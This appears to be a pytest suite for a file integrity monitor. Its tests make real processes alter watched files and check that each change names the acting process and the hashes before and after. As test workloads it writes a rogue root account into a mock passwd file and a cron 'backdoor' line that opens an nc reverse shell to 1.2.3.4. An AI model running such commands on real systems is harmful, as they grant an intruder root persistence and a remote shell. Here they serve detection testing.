"""File integrity on the real kernel: real processes change watched files (append,
rename over, chmod, delete, create in a watched directory, a write inside a podman
container) and the monitor names the process and the hashes before and after; reads
and rewrites with the same content raise nothing. The oracles are hashlib over the
files' bytes, the workloads' own pids, and `podman inspect`."""

from __future__ import annotations

import hashlib
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from mamori.protect.integrity import FileChange, FileIntegrityMonitor
from mamori.protect.malware import MalwareScanner
from tests.protect.live import Protected, start

pytestmark = [pytest.mark.root, pytest.mark.slow]


@pytest.fixture(scope="module")
def watched(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("fim")


@pytest.fixture(scope="module")
def live(watched: Path) -> Iterator[Protected]:
    (watched / "passwd").write_text("root:x:0:0::/root:/bin/sh\n")
    (watched / "cron.d").mkdir()
    (watched / "cron.d" / "job").write_text("* * * * * root true\n")
    fim = FileIntegrityMonitor(
        [str(watched / "passwd"), str(watched / "cron.d") + "/", "/etc/mamori-test-fim"],
        settle=0.1,
    )
    assert fim.baseline() == 3  # passwd, cron.d/job, and the absent container path
    protected = start(fim, MalwareScanner())
    yield protected
    protected.agent.stop()
    protected.scanner.close()


def _changes(live: Protected, path: Path | str, timeout: float = 15.0) -> list[FileChange]:
    found: list[FileChange] = []

    def done() -> bool:
        found.extend(c for c in live.fim.changes() if c.path == str(path))
        return bool(found)

    live.pump_until(done, timeout)
    return found


def _sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def test_an_append_names_the_writer_and_both_hashes(live: Protected, watched: Path) -> None:
    target = watched / "passwd"
    before = target.read_bytes()
    proc = subprocess.run(["sh", "-c", f"echo 'evil:x:0:0::/:/bin/sh' >> {target}"], check=True)
    assert proc.returncode == 0
    [change] = _changes(live, target)
    assert change.change == "modified"
    assert change.before is not None and change.before.sha256 == _sha(before)
    assert change.after.sha256 == _sha(target.read_bytes())
    assert change.actor["proc.name"] == "sh"
    alert = change.alert("host1")
    assert alert.rule == "Watched file changed" and alert.priority.label == "Warning"
    assert alert.json()["output_fields"]["fs.after.sha256"] == _sha(target.read_bytes())
    assert f"file={target}" in alert.output and "process=sh" in alert.output


def test_a_rename_over_the_file_is_attributed_to_the_renamer(
    live: Protected, watched: Path
) -> None:
    target = watched / "passwd"
    before = target.read_bytes()
    script = (
        "import os, sys\n"
        "tmp = sys.argv[1] + '.new'\n"
        "open(tmp, 'w').write('root:x:0:0::/root:/bin/bash\\n')\n"
        "os.rename(tmp, sys.argv[1])\n"
    )
    proc = subprocess.Popen([sys.executable, "-c", script, str(target)])
    proc.wait()
    [change] = _changes(live, target)
    assert change.change == "modified" and change.before is not None
    assert change.before.sha256 == _sha(before)
    assert change.after.sha256 == _sha(b"root:x:0:0::/root:/bin/bash\n")
    assert change.actor["proc.pid"] == proc.pid


def test_chmod_is_a_metadata_change(live: Protected, watched: Path) -> None:
    target = watched / "passwd"
    subprocess.run(["chmod", "0666", str(target)], check=True)
    [change] = _changes(live, target)
    assert change.change == "metadata" and change.actor["proc.name"] == "chmod"
    assert change.before is not None and change.before.mode & 0o777 != 0o666
    assert change.after.mode & 0o777 == 0o666
    assert change.alert("h").fields["fs.after.mode"] == "0666"


def test_create_and_delete_in_a_watched_directory(live: Protected, watched: Path) -> None:
    new = watched / "cron.d" / "backdoor"
    subprocess.run(["sh", "-c", f"echo '* * * * * root nc -e sh 1.2.3.4 80' > {new}"], check=True)
    [created] = _changes(live, new)
    assert created.change == "modified" and created.before is None  # not in the baseline
    assert created.after.sha256 == _sha(new.read_bytes())
    subprocess.run(["rm", str(watched / "cron.d" / "job")], check=True)
    [deleted] = _changes(live, watched / "cron.d" / "job")
    assert deleted.change == "deleted" and deleted.actor["proc.name"] == "rm"
    assert deleted.before is not None and deleted.before.kind == "file"


def test_reads_and_same_content_rewrites_raise_nothing(live: Protected, watched: Path) -> None:
    """The benign neighbours: a reader, and a writer that leaves the bytes and mode."""
    target = watched / "passwd"
    content = target.read_text()
    live.pump_until(lambda: False, 0.5)
    live.fim.changes(force=True)  # whatever earlier tests left
    subprocess.run(["cat", str(target)], check=True, capture_output=True)
    subprocess.run([sys.executable, "-c",
                    f"open({str(target)!r}, 'w').write({content!r})"], check=True)  # fmt: skip
    assert not _changes(live, target, timeout=2.0)
    assert not [c for c in live.fim.changes(force=True) if c.path == str(target)]


def test_a_write_inside_a_container_names_the_container(live: Protected, tmp_path: Path) -> None:
    from tests.runtime.test_podman_helpers import PODMAN_RUN, ensure_image
    from tests.support import need_tool

    need_tool("podman")
    image = ensure_image("podman", tmp_path)
    name = f"mamori-fim-{tmp_path.name[-8:]}"
    # pumped while it runs: a container's identity is read from its cgroup, which is
    # gone once it exits (an agent that keeps up sees it; one replaying late would not)
    box = subprocess.Popen(
        ["podman", *PODMAN_RUN, "--rm", "--name", name, image, "sh", "-c",
         "echo x > /etc/mamori-test-fim; sleep 1"],
        stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    found: list[FileChange] = []

    def done() -> bool:  # settled changes are read while the container still runs
        found.extend(c for c in live.fim.changes() if c.path == "/etc/mamori-test-fim")
        return box.poll() is not None

    live.pump_until(done, 120)
    assert box.wait() == 0, box.stderr.read() if box.stderr else ""
    [change] = found or _changes(live, "/etc/mamori-test-fim")
    assert change.actor["container.id"] not in (None, "host")
    assert change.before is None  # first sight of this container's file
    assert change.after.sha256 == _sha(b"x\n")  # read through /proc/PID/root
    host_copy = Path("/etc/mamori-test-fim")
    assert not host_copy.exists()  # the container's file, never the host's
